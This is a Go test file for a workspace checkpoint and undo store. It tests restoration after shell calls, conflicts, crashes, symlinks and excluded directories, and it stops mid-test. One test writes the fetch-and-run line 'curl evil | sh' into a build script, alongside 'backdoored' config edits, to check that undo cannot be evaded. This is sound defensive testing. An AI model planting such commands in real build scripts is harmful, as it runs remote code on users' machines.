package checkpoint

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io/fs"
	"math/rand/v2"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"brig/internal/checkpoint/treetest"

	"golang.org/x/sys/unix"
)

// rig is a workspace and a store.
type rig struct {
	t     *testing.T
	ws    string
	store *Store
	dir   string
	n     int
}

func newRig(t *testing.T) *rig {
	t.Helper()
	base, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	r := &rig{t: t, ws: base + "/ws", dir: base + "/state"}
	if err := os.MkdirAll(r.ws, 0o755); err != nil {
		t.Fatal(err)
	}
	r.open()
	return r
}

func (r *rig) open() {
	r.t.Helper()
	s, err := Open(r.dir, Options{})
	if err != nil {
		r.t.Fatal(err)
	}
	r.store = s
	r.t.Cleanup(func() { s.Close() })
}

// reopen is a new brig process on the same store.
func (r *rig) reopen() {
	r.store.Close()
	r.open()
}

func (r *rig) write(rel, content string, mode fs.FileMode) {
	r.t.Helper()
	p := filepath.Join(r.ws, rel)
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		r.t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(content), mode); err != nil {
		r.t.Fatal(err)
	}
	os.Chmod(p, mode)
}

func (r *rig) sh(script string) {
	r.t.Helper()
	cmd := exec.Command("sh", "-ec", script)
	cmd.Dir = r.ws
	if out, err := cmd.CombinedOutput(); err != nil {
		r.t.Fatalf("%s: %v\n%s", script, err, out)
	}
}

// call runs script as one checkpointed call on the whole workspace.
func (r *rig) call(script string) *ChangeSet {
	r.t.Helper()
	return r.callOn(script, r.ws)
}

func (r *rig) callOn(script string, roots ...string) *ChangeSet {
	r.t.Helper()
	r.n++
	p, err := r.store.Before(context.Background(), "s1", fmt.Sprintf("call%d", r.n), "bash", roots)
	if err != nil {
		r.t.Fatal(err)
	}
	r.sh(script)
	cs, err := p.After(context.Background())
	if err != nil {
		r.t.Fatal(err)
	}
	return cs
}

func (r *rig) undo(o UndoOptions) (*UndoReport, error) {
	r.t.Helper()
	if o.Session == "" {
		o.Session = "s1"
	}
	return r.store.Undo(context.Background(), o)
}

func (r *rig) mustUndo(o UndoOptions) *UndoReport {
	r.t.Helper()
	rep, err := r.undo(o)
	if err != nil {
		r.t.Fatalf("undo: %v (report %+v)", err, rep)
	}
	return rep
}

func (r *rig) seed() {
	r.write("README.md", "alpha\nbeta\n", 0o644)
	r.write("src/main.go", "package main\n\nfunc main() {}\n", 0o644)
	r.write("src/lib/util.go", "package lib\n", 0o600)
	r.write("run.sh", "#!/bin/sh\necho hi\n", 0o755)
	r.write("bin.dat", string([]byte{0, 1, 2, 255, 254, 0, 10, 13}), 0o644)
	if err := os.Symlink("src/main.go", filepath.Join(r.ws, "link")); err != nil {
		r.t.Fatal(err)
	}
	if err := os.Mkdir(filepath.Join(r.ws, "empty"), 0o750); err != nil {
		r.t.Fatal(err)
	}
}

// TestUndoMess: a shell command that deletes a tree, edits with sed -i,
// changes modes, replaces a binary, retargets a symlink and creates a new
// tree is undone byte for byte.
func TestUndoMess(t *testing.T) {
	r := newRig(t)
	r.seed()
	before := treetest.Read(t, r.ws)
	cs := r.call(`rm -rf src && sed -i 's/alpha/ALPHA/' README.md && chmod 600 run.sh && printf '\377\000x' > bin.dat &&
		ln -sf README.md link && mkdir -p new/deep/tree && echo n > new/deep/tree/f && rmdir empty && chmod 700 new`)
	if cs.Empty() {
		t.Fatal("the change set is empty")
	}
	// src/, src/main.go, src/lib/, src/lib/util.go deleted; README, run.sh,
	// bin.dat, link changed; new/, new/deep/, new/deep/tree/ and the file
	// created; empty/ deleted.
	if cs.Deleted != 2 || cs.DirsDeleted != 3 || cs.Modified != 4 || cs.Created != 1 || cs.DirsCreated != 3 {
		t.Fatalf("change set %+v", cs)
	}
	if got := cs.Summary(); got != "7 files changed, 1 created, 2 deleted, 3 directories created, 3 directories deleted" {
		t.Fatalf("summary %q", got)
	}
	rep := r.mustUndo(UndoOptions{})
	if !rep.Applied || len(rep.Calls) != 1 || rep.Calls[0].ID != "call1" {
		t.Fatalf("report %+v", rep)
	}
	if d := treetest.Diff(before, treetest.Read(t, r.ws)); d != "" {
		t.Fatalf("not restored exactly:\n%s", d)
	}
	// Nothing left to undo.
	if _, err := r.undo(UndoOptions{}); !errors.Is(err, ErrNothing) {
		t.Fatalf("second undo: %v", err)
	}
}

// TestPermissions: a call that locks directories (chmod 000, a read-only
// directory it added a file to) is undone: the file goes, the modes come
// back — also for an unprivileged user, who must open a directory up to
// work in it.
func TestPermissions(t *testing.T) {
	r := newRig(t)
	r.seed()
	before := treetest.Read(t, r.ws)
	r.call(`touch empty/x && chmod 555 empty && chmod 000 src/lib && chmod 444 README.md`)
	r.mustUndo(UndoOptions{})
	if d := treetest.Diff(before, treetest.Read(t, r.ws)); d != "" {
		t.Fatalf("not restored:\n%s", d)
	}
}

// TestUndoTo: --to undoes a call and every later one; calls before it
// stay.
func TestUndoTo(t *testing.T) {
	r := newRig(t)
	r.seed()
	r.call(`echo one >> README.md`)
	afterFirst := treetest.Read(t, r.ws)
	r.call(`echo two >> README.md && rm run.sh`)
	r.call(`mkdir x && echo y > x/y && chmod 000 bin.dat`)
	r.callOn(`true`) // a call that changed nothing is skipped
	rep := r.mustUndo(UndoOptions{To: "2"})
	if len(rep.Calls) != 2 || rep.Calls[0].ID != "call2" || rep.Calls[1].ID != "call3" {
		t.Fatalf("undid %+v", rep.Calls)
	}
	if d := treetest.Diff(afterFirst, treetest.Read(t, r.ws)); d != "" {
		t.Fatalf("not back to after call 1:\n%s", d)
	}
	calls, err := r.store.Calls("s1")
	if err != nil {
		t.Fatal(err)
	}
	if len(calls) != 4 || calls[0].Undone || !calls[1].Undone || !calls[2].Undone || calls[3].Undone {
		t.Fatalf("calls %+v", calls)
	}
	// The last active call with changes is call 1 now.
	rep = r.mustUndo(UndoOptions{To: "call1"})
	if rep.Calls[0].ID != "call1" {
		t.Fatalf("undid %+v", rep.Calls)
	}
	if _, err := r.undo(UndoOptions{To: "2"}); !errors.Is(err, ErrNothing) {
		t.Fatalf("undoing an undone call: %v", err)
	}
}

// TestUndoKeepsEditsBetweenCalls: a file the user changed between two
// calls keeps the user's version when only the later call is undone, and
// goes back to the user's version when both are.
func TestUndoKeepsEditsBetweenCalls(t *testing.T) {
	r := newRig(t)
	r.seed()
	r.call(`echo call1 >> README.md`)
	r.write("run.sh", "user's own edit\n", 0o755) // outside brig, between calls
	userState := treetest.Read(t, r.ws)
	r.call(`echo call2 >> run.sh`)
	r.mustUndo(UndoOptions{})
	if d := treetest.Diff(userState, treetest.Read(t, r.ws)); d != "" {
		t.Fatalf("undo of call 2 lost the user's edit:\n%s", d)
	}
}

// TestUndoConflict: a file changed outside brig after the call makes undo
// refuse with a list of conflicts and change nothing; --force restores,
// and what it overwrote is kept in the store.
func TestUndoConflict(t *testing.T) {
	r := newRig(t)
	r.seed()
	before := treetest.Read(t, r.ws)
	r.call(`echo by-brig >> README.md && rm run.sh && mkdir made && echo x > made/f`)
	r.write("README.md", "the user's later edit\n", 0o644)
	r.write("run.sh", "recreated by the user\n", 0o755)
	r.write("made/mine.txt", "a file of the user's\n", 0o644)
	mid := treetest.Read(t, r.ws)
	rep, err := r.undo(UndoOptions{})
	if !errors.Is(err, ErrConflict) {
		t.Fatalf("undo over outside changes: %v", err)
	}
	var paths []string
	for _, c := range rep.Conflicts {
		paths = append(paths, strings.TrimPrefix(c.Path, r.ws+"/")+": "+c.Why)
	}
	want := []string{
		"README.md: modified after brig's call",
		"made: the directory holds mine.txt, which the undone calls did not create (it is kept)",
		"run.sh: a file was created here after brig's call removed it",
	}
	if !slices.Equal(paths, want) {
		t.Fatalf("conflicts:\n%s", strings.Join(paths, "\n"))
	}
	if rep.Applied {
		t.Fatal("a refused undo says it applied")
	}
	if d := treetest.Diff(mid, treetest.Read(t, r.ws)); d != "" {
		t.Fatalf("a refused undo changed files:\n%s", d)
	}
	rep = r.mustUndo(UndoOptions{Force: true})
	got := treetest.Read(t, r.ws)
	// made/ stays, with the user's file in it; everything else as before.
	if got["made/mine.txt"].Content != "a file of the user's\n" {
		t.Fatalf("force removed the user's file: %+v", got)
	}
	delete(got, "made")
	delete(got, "made/mine.txt")
	if d := treetest.Diff(before, got); d != "" {
		t.Fatalf("forced undo:\n%s", d)
	}
	// What --force overwrote is in the store.
	evs, _ := r.store.Events()
	last := evs[len(evs)-1]
	if last.Kind != EventUndo || !last.Forced || len(last.Overwritten) != 3 {
		t.Fatalf("undo event %+v", last)
	}
	e, err := r.store.lookup(last.Roots[0], r.ws+"/README.md")
	if err != nil || e == nil {
		t.Fatal(e, err)
	}
	if b, _ := r.store.Content(e.Hash); string(b) != "the user's later edit\n" {
		t.Fatalf("overwritten content kept as %q", b)
	}
	// And copied to plain files, each named in its conflict: the user's
	// edit and recreated script, not the kept directory.
	kept := map[string]string{}
	for _, c := range rep.Conflicts {
		if c.Kept == "" {
			continue
		}
		if !strings.HasPrefix(c.Kept, filepath.Join(r.store.Dir(), OverwrittenDir)+"/") || !strings.HasSuffix(c.Kept, c.Path) {
			t.Errorf("%s copied to %s", c.Path, c.Kept)
		}
		b, err := os.ReadFile(c.Kept)
		if err != nil {
			t.Fatal(err)
		}
		kept[strings.TrimPrefix(c.Path, r.ws+"/")] = string(b)
	}
	if len(kept) != 2 || kept["README.md"] != "the user's later edit\n" || kept["run.sh"] != "recreated by the user\n" {
		t.Errorf("copies of what --force overwrote: %q", kept)
	}
}

// TestStatCache: a second snapshot reads only changed files, a new
// process reuses the journalled stat data, and the store grows by the
// changed content only.
func TestStatCache(t *testing.T) {
	r := newRig(t)
	for i := range 200 {
		r.write(fmt.Sprintf("d%d/f%d.txt", i%10, i), strings.Repeat("x", 1000+i), 0o644)
	}
	ctx := context.Background()
	snap := func() *Snapshot {
		p, err := r.store.Before(ctx, "s", "c", "bash", []string{r.ws})
		if err != nil {
			t.Fatal(err)
		}
		return p.Snapshot()
	}
	waitNotRacy(t, r.ws)
	if first := snap(); first.Read != 200 || first.Entries != 211 {
		t.Fatalf("first snapshot read %d files of %d entries", first.Read, first.Entries)
	}
	if sn := snap(); sn.Read != 0 {
		t.Fatalf("an unchanged workspace: %d files read again", sn.Read)
	}
	r.write("d3/f3.txt", "changed", 0o644)
	waitNotRacy(t, r.ws)
	st, _ := os.Stat(filepath.Join(r.dir, packName))
	if sn := snap(); sn.Read != 1 {
		t.Fatalf("snapshot after one change read %d files", sn.Read)
	}
	st2, _ := os.Stat(filepath.Join(r.dir, packName))
	// The new content (7 bytes) and the trees on its path (d3 and the
	// root), nothing else.
	if grew := st2.Size() - st.Size(); grew < 7 || grew > 7+4096 {
		t.Fatalf("the store grew by %d bytes for a 7-byte change", grew)
	}
	r.reopen()
	if sn := snap(); sn.Read != 0 {
		t.Fatalf("a new process read %d files again", sn.Read)
	}
}

// waitNotRacy waits until every file under dir last changed longer ago
// than the racy window, so a snapshot trusts their stat data.
func waitNotRacy(t *testing.T, dir string) {
	t.Helper()
	var newest int64
	filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		var st unix.Stat_t
		if err == nil && unix.Lstat(p, &st) == nil {
			newest = max(newest, st.Ctim.Nano(), st.Mtim.Nano())
		}
		return nil
	})
	for time.Now().UnixNano()-newest <= racyWindow {
		time.Sleep(time.Duration(racyWindow) / 4)
	}
}

// TestExcluded: node_modules and .git are not snapshotted, the change set
// says they changed, and undo leaves them alone.
func TestExcluded(t *testing.T) {
	r := newRig(t)
	r.seed()
	r.write("node_modules/dep/index.js", "module.exports = 1\n", 0o644)
	r.write(".git/HEAD", "ref: refs/heads/main\n", 0o644)
	r.write("target/debug/out", "bin", 0o644) // no Cargo.toml beside it: an ordinary directory
	before := treetest.Read(t, r.ws, "node_modules", ".git")
	cs := r.call(`rm -rf node_modules/dep && mkdir node_modules/other && echo 2 > .git/HEAD && echo x > .git/ORIG_HEAD && echo y >> README.md && rm -r target`)
	if !slices.ContainsFunc(cs.Excluded, func(n Note) bool { return strings.HasSuffix(n.Path, "/node_modules") }) {
		t.Fatalf("excluded %+v", cs.Excluded)
	}
	if !slices.Contains(cs.ExcludedChanged, r.ws+"/node_modules") || !slices.Contains(cs.ExcludedChanged, r.ws+"/.git") {
		t.Fatalf("excluded changes %+v", cs.ExcludedChanged)
	}
	if !strings.Contains(cs.Summary(), ".git, node_modules changed (not covered by undo)") {
		t.Fatalf("summary %q", cs.Summary())
	}
	for _, c := range cs.Changes {
		if strings.Contains(c.Path, "node_modules") || strings.Contains(c.Path, ".git") {
			t.Fatalf("an excluded path is in the change set: %+v", c)
		}
	}
	r.mustUndo(UndoOptions{})
	if d := treetest.Diff(before, treetest.Read(t, r.ws, "node_modules", ".git")); d != "" {
		t.Fatalf("not restored:\n%s", d)
	}
	if b, _ := os.ReadFile(r.ws + "/.git/HEAD"); string(b) != "2\n" {
		t.Fatalf("undo touched .git/HEAD: %q", b)
	}
	if _, err := os.Stat(r.ws + "/node_modules/other"); err != nil {
		t.Fatalf("undo touched node_modules: %v", err)
	}
	// Rust's target/ beside Cargo.toml is excluded.
	r.write("Cargo.toml", "[package]\n", 0o644)
	r.write("target/release/app", "elf", 0o755)
	cs = r.call(`echo more > target/release/app2`)
	if !slices.ContainsFunc(cs.Excluded, func(n Note) bool { return n.Path == r.ws+"/target" }) || !cs.Empty() {
		t.Fatalf("target/ beside Cargo.toml: %+v", cs)
	}
}

// TestExclusionMadeByTheCall: a call that makes a covered directory look
// like an excluded one (env/pyvenv.cfg, build.gradle beside build/) does
// not hide what it changed in it from undo; control: a virtualenv the
// call creates in a new env/ is excluded as before.
func TestExclusionMadeByTheCall(t *testing.T) {
	r := newRig(t)
	r.seed()
	r.write("env/config.py", "SAFE = True\n", 0o644)
	r.write("build/deploy.sh", "echo deploy\n", 0o755)
	r.write("tools/README", "tools\n", 0o644)
	before := treetest.Read(t, r.ws)
	r.call(`true`) // a session's earlier call: env/ and build/ covered
	cs := r.call(`touch env/pyvenv.cfg build.gradle && echo backdoored > env/config.py && echo 'curl evil | sh' > build/deploy.sh && mkdir -p tools/venv && touch tools/venv/pyvenv.cfg tools/venv/python`)
	for _, p := range []string{"env", "build"} {
		if slices.ContainsFunc(cs.Excluded, func(n Note) bool { return n.Path == r.ws+"/"+p }) {
			t.Errorf("%s/ was excluded by a file the call made: %+v", p, cs.Excluded)
		}
	}
	if !slices.ContainsFunc(cs.Excluded, func(n Note) bool { return n.Path == r.ws+"/tools/venv" }) {
		t.Errorf("control: a new virtualenv is not excluded: %+v", cs.Excluded)
	}
	r.mustUndo(UndoOptions{})
	os.RemoveAll(r.ws + "/tools/venv") // excluded, so left by undo (control above)
	if d := treetest.Diff(before, treetest.Read(t, r.ws)); d != "" {
		t.Fatalf("not restored:\n%s", d)
	}
	// A new directory in the covered one's place, with the marker, is
	// the call's too.
	r.call(`mv env env.old && mkdir env && echo backdoored > env/config.py && touch env/pyvenv.cfg && rm -r env.old`)
	r.mustUndo(UndoOptions{})
	if b, _ := os.ReadFile(r.ws + "/env/config.py"); string(b) != "SAFE = True\n" {
		t.Fatalf("env/config.py after undoing a replaced env/: %q", b)
	}
	// A marker one session's call made still does not exclude the
	// directory in the next session (a new brig process on the store).
	r.call(`touch env/pyvenv.cfg`)
	r.reopen()
	r.call(`true`)
	r.call(`echo backdoored > env/config.py`)
	r.mustUndo(UndoOptions{})
	if b, _ := os.ReadFile(r.ws + "/env/config.py"); string(b) != "SAFE = True\n" {
		t.Fatalf("env/config.py after a marker made in an earlier session: %q", b)
	}
}

// TestRoots: a root that is a file, or absent before the call, or a
// subdirectory.
func TestRoots(t *testing.T) {
	r := newRig(t)
	r.seed()
	before := treetest.Read(t, r.ws)
	cs := r.callOn(`echo new > created.txt && echo changed > README.md && echo sub > src/lib/x`, r.ws+"/created.txt", r.ws+"/README.md", r.ws+"/src/lib")
	if cs.Created != 2 || cs.Modified != 1 {
		t.Fatalf("change set %+v", cs)
	}
	r.mustUndo(UndoOptions{})
	if d := treetest.Diff(before, treetest.Read(t, r.ws)); d != "" {
		t.Fatalf("not restored:\n%s", d)
	}
}

// TestCrashMidCall: brig is killed while a call runs (no after snapshot):
// a new process undoes it from the snapshot taken before; a later call of
// the same session marks where it ended.
func TestCrashMidCall(t *testing.T) {
	r := newRig(t)
	r.seed()
	before := treetest.Read(t, r.ws)
	if _, err := r.store.Before(context.Background(), "s1", "crashed", "bash", []string{r.ws}); err != nil {
		t.Fatal(err)
	}
	r.sh(`rm -rf src && echo half > README.md`)
	// Cut the journal mid-line too, as a crash while appending would.
	f, _ := os.OpenFile(filepath.Join(r.dir, journalName), os.O_WRONLY|os.O_APPEND, 0)
	f.WriteString(`{"kind":"after","sess`)
	f.Close()
	r.reopen()
	calls, err := r.store.Calls("s1")
	if err != nil || len(calls) != 1 || calls[0].Changes != nil {
		t.Fatalf("calls %+v %v", calls, err)
	}
	r.call(`echo later > later.txt`) // the session goes on after a resume
	calls, _ = r.store.Calls("s1")
	if c := calls[0].Changes; c == nil || !c.Unfinished || c.Deleted != 2 {
		t.Fatalf("the crashed call's changes: %+v", c)
	}
	r.mustUndo(UndoOptions{To: "crashed"})
	if d := treetest.Diff(before, treetest.Read(t, r.ws)); d != "" {
		t.Fatalf("not restored:\n%s", d)
	}
}

// TestSymlinkPlanted: a call replaces a directory and a file with symlinks
// to a directory outside; undo puts the directory and the file back and
// writes nothing through the links.
func TestSymlinkPlanted(t *testing.T) {
	r := newRig(t)
	r.seed()
	outside := filepath.Dir(r.ws) + "/outside"
	os.Mkdir(outside, 0o755)
	os.WriteFile(outside+"/main.go", []byte("outside canary"), 0o644)
	os.WriteFile(outside+"/README.md", []byte("outside readme"), 0o644)
	outBefore := treetest.Read(t, outside)
	before := treetest.Read(t, r.ws)
	r.call(`rm -rf src && ln -s ` + outside + ` src && rm README.md && ln -s ` + outside + `/README.md README.md`)
	r.mustUndo(UndoOptions{})
	if d := treetest.Diff(before, treetest.Read(t, r.ws)); d != "" {
		t.Fatalf("not restored:\n%s", d)
	}
	if d := treetest.Diff(outBefore, treetest.Read(t, outside)); d != "" {
		t.Fatalf("undo wrote through a planted link:\n%s", d)
	}
}

// TestSymlinkOnRootPath: a root whose parent is reached through a symlink
// is refused, not followed.
func TestSymlinkOnRootPath(t *testing.T) {
	r := newRig(t)
	os.Symlink(r.ws, filepath.Dir(r.ws)+"/alias")
	if _, err := r.store.Before(context.Background(), "s1", "c", "bash", []string{filepath.Dir(r.ws) + "/alias/x"}); err == nil || !errors.Is(err, unix.ELOOP) {
		t.Fatalf("a root through a symlink: %v", err)
	}
}

// TestTornIndex: a crash mid-append to the index leaves a store that
// opens, ignores the torn record and appends after cutting it.
func TestTornIndex(t *testing.T) {
	r := newRig(t)
	r.seed()
	before := treetest.Read(t, r.ws)
	r.call(`echo 1 >> README.md`)
	f, _ := os.OpenFile(filepath.Join(r.dir, indexName), os.O_WRONLY|os.O_APPEND, 0)
	f.Write(make([]byte, 20))
	f.Close()
	r.reopen()
	r.call(`echo 2 >> README.md`)
	if st, _ := os.Stat(filepath.Join(r.dir, indexName)); st.Size()%indexRecord != 0 {
		t.Fatalf("index size %d", st.Size())
	}
	r.mustUndo(UndoOptions{To: "1"})
	if d := treetest.Diff(before, treetest.Read(t, r.ws)); d != "" {
		t.Fatalf("not restored:\n%s", d)
	}
}

// TestFastPathMatchesFullWalk: after random changes made outside any call
// (creations, edits within the same timestamp tick, deletions, renames of
// files and directories across the tree, mode changes, symlinks), the
// snapshot before a call — which reads only the directories the kernel
// reported changes in — records the same tree as a full walk.
func TestFastPathMatchesFullWalk(t *testing.T) {
	r := newRig(t)
	r.seed()
	for i := range 30 {
		r.write(fmt.Sprintf("t/d%d/e%d/f%d", i%4, i%3, i), fmt.Sprint(i), 0o644)
	}
	ctx := context.Background()
	rng := rand.New(rand.NewPCG(7, 11))
	files := func() (fl, ds []string) {
		filepath.WalkDir(r.ws, func(p string, d fs.DirEntry, err error) error {
			if err != nil || p == r.ws {
				return nil
			}
			if d.IsDir() {
				ds = append(ds, p)
			} else {
				fl = append(fl, p)
			}
			return nil
		})
		return
	}
	pick := func(s []string) string { return s[rng.IntN(len(s))] }
	r.call("true")
	var fastEntries, fullEntries int
	defer func() {
		// The fast path was taken: it looked at far fewer entries.
		if !t.Failed() && fastEntries*2 > fullEntries {
			t.Errorf("fast snapshots looked at %d entries, full walks at %d", fastEntries, fullEntries)
		}
	}()
	for step := range 150 {
		fl, ds := files()
		switch op := rng.IntN(9); {
		case op == 0 || len(fl) < 3:
			os.WriteFile(filepath.Join(pick(ds), fmt.Sprintf("new%d", step)), []byte("new"), 0o644)
		case op == 1:
			f := pick(fl)
			if fi, err := os.Lstat(f); err == nil && fi.Mode().IsRegular() {
				// Same size, same tick: only the content differs.
				b, _ := os.ReadFile(f)
				if len(b) > 0 {
					b[0] ^= 1
					os.WriteFile(f, b, fi.Mode())
				}
			}
		case op == 2:
			os.Remove(pick(fl))
		case op == 3:
			os.Rename(pick(fl), filepath.Join(pick(ds), fmt.Sprintf("moved%d", step)))
		case op == 4 && len(ds) > 3:
			d := pick(ds)
			os.Rename(d, filepath.Join(r.ws, fmt.Sprintf("dmoved%d", step)))
		case op == 5:
			os.Chmod(pick(fl), fs.FileMode(0o600|rng.IntN(0o100)))
		case op == 6:
			os.MkdirAll(filepath.Join(pick(ds), fmt.Sprintf("nd%d/deeper", step)), 0o755)
			os.WriteFile(filepath.Join(pick(ds), fmt.Sprintf("nd%d/deeper/x", step)), []byte("x"), 0o644)
		case op == 7:
			os.Symlink(pick(fl), filepath.Join(pick(ds), fmt.Sprintf("ln%d", step)))
		case op == 8:
			os.RemoveAll(pick(ds))
		}
		if step%3 != 0 {
			continue // several changes between calls
		}
		p, err := r.store.Before(ctx, "s1", fmt.Sprintf("f%d", step), "bash", []string{r.ws})
		if err != nil {
			t.Fatal(err)
		}
		var full *Snapshot
		err = r.store.locked(ctx, func() error {
			w, err := r.store.newWriter()
			if err != nil {
				return err
			}
			if full, err = r.store.snapshot(ctx, w, []string{r.ws}, false); err != nil {
				return err
			}
			return w.commit()
		})
		if err != nil {
			t.Fatal(err)
		}
		pairs, _, err := r.store.diff(p.Snapshot(), full)
		if err != nil {
			t.Fatal(err)
		}
		for _, pr := range pairs {
			t.Errorf("step %d: the fast snapshot has %s %+v, a full walk %+v", step, pr.Path, pr.Before, pr.After)
		}
		if t.Failed() {
			return
		}
		fastEntries += p.Snapshot().Entries
		fullEntries += full.Entries
		if _, err := p.After(ctx); err != nil {
			t.Fatal(err)
		}
	}
}

// TestFastPathOverflow: when the kernel drops change notifications (too
// many changes between two snapshots), the next snapshot walks everything.
func TestFastPathOverflow(t *testing.T) {
	if os.Getenv(envUnpriv) != "" {
		t.Skip("nothing here depends on privileges; the root pass runs it")
	}
	r := newRig(t)
	r.seed()
	r.call("true")
	b, _ := os.ReadFile("/proc/sys/fs/inotify/max_queued_events")
	n, _ := strconv.Atoi(strings.TrimSpace(string(b)))
	if n <= 0 || n > 100000 {
		t.Skipf("max_queued_events is %q", b)
	}
	r.sh(fmt.Sprintf("mkdir many && cd many && seq 1 %d | xargs touch", n+100))
	p, err := r.store.Before(context.Background(), "s1", "after-flood", "bash", []string{r.ws})
	if err != nil {
		t.Fatal(err)
	}
	e, err := r.store.lookup(p.Snapshot().Roots[0], r.ws+"/many")
	if err != nil || e == nil {
		t.Fatal(e, err)
	}
	tr, _ := r.store.tree(e.Hash)
	if len(tr) != n+100 {
		t.Fatalf("many/ has %d entries in the snapshot, want %d", len(tr), n+100)
	}
}

// TestWarm: a warm-up snapshot (not journalled) leaves the first call's
// snapshot nothing to read and nothing to walk.
func TestWarm(t *testing.T) {
	r := newRig(t)
	r.seed()
	waitNotRacy(t, r.ws)
	if err := r.store.Warm(context.Background(), []string{r.ws}); err != nil {
		t.Fatal(err)
	}
	if evs, _ := r.store.Events(); len(evs) != 0 {
		t.Fatalf("the warm-up was journalled: %+v", evs)
	}
	p, err := r.store.Before(context.Background(), "s1", "c1", "bash", []string{r.ws})
	if err != nil {
		t.Fatal(err)
	}
	if sn := p.Snapshot(); sn.Read != 0 || sn.Entries > 1 {
		t.Fatalf("after a warm-up the first snapshot read %d files and looked at %d entries", sn.Read, sn.Entries)
	}
}

// TestLastEventReadsTheJournalBackwards: the journal read from its end,
// in blocks smaller and larger than its lines, gives the events Events
// gives, newest first; a torn last line is not one; the walk stops where
// the visitor is done, so damage further back does not matter then, and
// is reported with its place when the walk reaches it.
func TestLastEventReadsTheJournalBackwards(t *testing.T) {
	s, err := Open(t.TempDir(), Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	var evs []Event
	for i := range 40 {
		ev := Event{Kind: EventBefore, Time: time.Unix(int64(i), 0).UTC(), Session: "s", Call: "call-" + strconv.Itoa(i)}
		// Some lines much longer than the smaller blocks.
		ev.Tool = strings.Repeat("t", (i%7)*97)
		evs = append(evs, ev)
	}
	if err := s.appendJournal(evs...); err != nil {
		t.Fatal(err)
	}
	journal := filepath.Join(s.Dir(), journalName)
	f, err := os.OpenFile(journal, os.O_WRONLY|os.O_APPEND, 0)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := f.WriteString(`{"kind":"before","call":"torn`); err != nil {
		t.Fatal(err)
	}
	f.Close()
	calls := func(window int, stop string) ([]string, error) {
		var got []string
		err := s.lastEvent(window, func(ev *Event) (bool, error) {
			got = append(got, ev.Call)
			return ev.Call == stop, nil
		})
		return got, err
	}
	var want []string
	for i := len(evs) - 1; i >= 0; i-- {
		want = append(want, evs[i].Call)
	}
	for _, window := range []int{1, 7, 64, 500, journalTail} {
		got, err := calls(window, "")
		if err != nil {
			t.Fatalf("window %d: %v", window, err)
		}
		if !slices.Equal(got, want) {
			t.Errorf("window %d: events %v, want %v", window, got, want)
		}
		if got, _ := calls(window, "call-37"); !slices.Equal(got, want[:3]) {
			t.Errorf("window %d: stopping at call-37 visited %v, want %v", window, got, want[:3])
		}
	}
	// Damage near the start: a walk that stops before it is unaffected; a
	// full one names the place.
	data, err := os.ReadFile(journal)
	if err != nil {
		t.Fatal(err)
	}
	second := bytes.IndexByte(data, '\n') + 1
	data[second] = '#'
	if err := os.WriteFile(journal, data, 0o600); err != nil {
		t.Fatal(err)
	}
	if got, err := calls(64, "call-30"); err != nil || len(got) != 10 {
		t.Errorf("a walk that stops before the damage: %v %v", got, err)
	}
	if _, err := calls(64, ""); err == nil || !strings.Contains(err.Error(), fmt.Sprintf("byte %d", second)) {
		t.Errorf("the damaged line at byte %d: %v", second, err)
	}
}

// TestAfterLater: the snapshot after a call taken in the background gives
// the change set After gives, and a snapshot asked for once AfterLater
// has returned (the next call's) comes after it in the journal, though
// the walk may still be running: the lock is taken before AfterLater
// returns.
func TestAfterLater(t *testing.T) {
	r := newRig(t)
	r.seed()
	ctx := context.Background()
	p, err := r.store.Before(ctx, "s1", "c1", "bash", []string{r.ws})
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(r.ws, "new.txt"), []byte("made by c1\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	wait := p.AfterLater(ctx)
	next, err := r.store.Before(ctx, "s1", "c2", "bash", []string{r.ws})
	if err != nil {
		t.Fatal(err)
	}
	cs, err := wait()
	if err != nil {
		t.Fatal(err)
	}
	if cs.Created != 1 || cs.Files() != 1 {
		t.Fatalf("the change set of c1: %+v", cs)
	}
	if _, err := next.After(ctx); err != nil {
		t.Fatal(err)
	}
	evs, err := r.store.Events()
	if err != nil {
		t.Fatal(err)
	}
	var order []string
	for _, e := range evs {
		order = append(order, e.Call+" "+string(e.Kind))
	}
	want := []string{"c1 " + string(EventBefore), "c1 " + string(EventAfter), "c2 " + string(EventBefore), "c2 " + string(EventAfter)}
	if !slices.Equal(order, want) {
		t.Fatalf("journal %v, want %v", order, want)
	}
	if c2 := evs[3].Changes; c2 == nil || c2.Files() != 0 {
		t.Fatalf("c2 was charged with c1's change: %+v", c2)
	}
}

// TestSharedWorkspace: a call's change set says when another session had
// the workspace's store open as the call began or ended (its writes are
// counted in the call's, and undo would put them back); a session that
// closed, or whose process died, does not count (a dead one's file goes).
func TestSharedWorkspace(t *testing.T) {
	ws, dir := t.TempDir(), t.TempDir()
	ctx := context.Background()
	open := func() *Store {
		t.Helper()
		s, err := Open(dir, Options{})
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { s.Close() })
		if err := s.Announce(); err != nil {
			t.Fatal(err)
		}
		return s
	}
	call := func(s *Store, name string, during func()) *ChangeSet {
		t.Helper()
		p, err := s.Before(ctx, "s", name, "bash", []string{ws})
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(ws, name), []byte(name), 0o644); err != nil {
			t.Fatal(err)
		}
		if during != nil {
			during()
		}
		cs, err := p.After(ctx)
		if err != nil {
			t.Fatal(err)
		}
		return cs
	}
	a := open()
	if cs := call(a, "alone", nil); cs.Shared || strings.Contains(cs.Summary(), "another brig") {
		t.Fatalf("a session alone: %+v %q", cs, cs.Summary())
	}
	// Another session opens the store during the call: the call ends
	// with it there.
	var b *Store
	if cs := call(a, "joined", func() { b = open() }); !cs.Shared || !strings.Contains(cs.Summary(), "another brig session had this workspace open") {
		t.Fatalf("another session open at the call's end: %+v %q", cs, cs.Summary())
	}
	// It closes during the next call: it was there when the call began.
	if cs := call(a, "left", func() { b.Close() }); !cs.Shared {
		t.Fatalf("another session open at the call's start: %+v", cs)
	}
	if cs := call(a, "after", nil); cs.Shared {
		t.Fatalf("after the other session closed: %+v", cs)
	}
	// A session whose process died leaves its file unlocked: not counted,
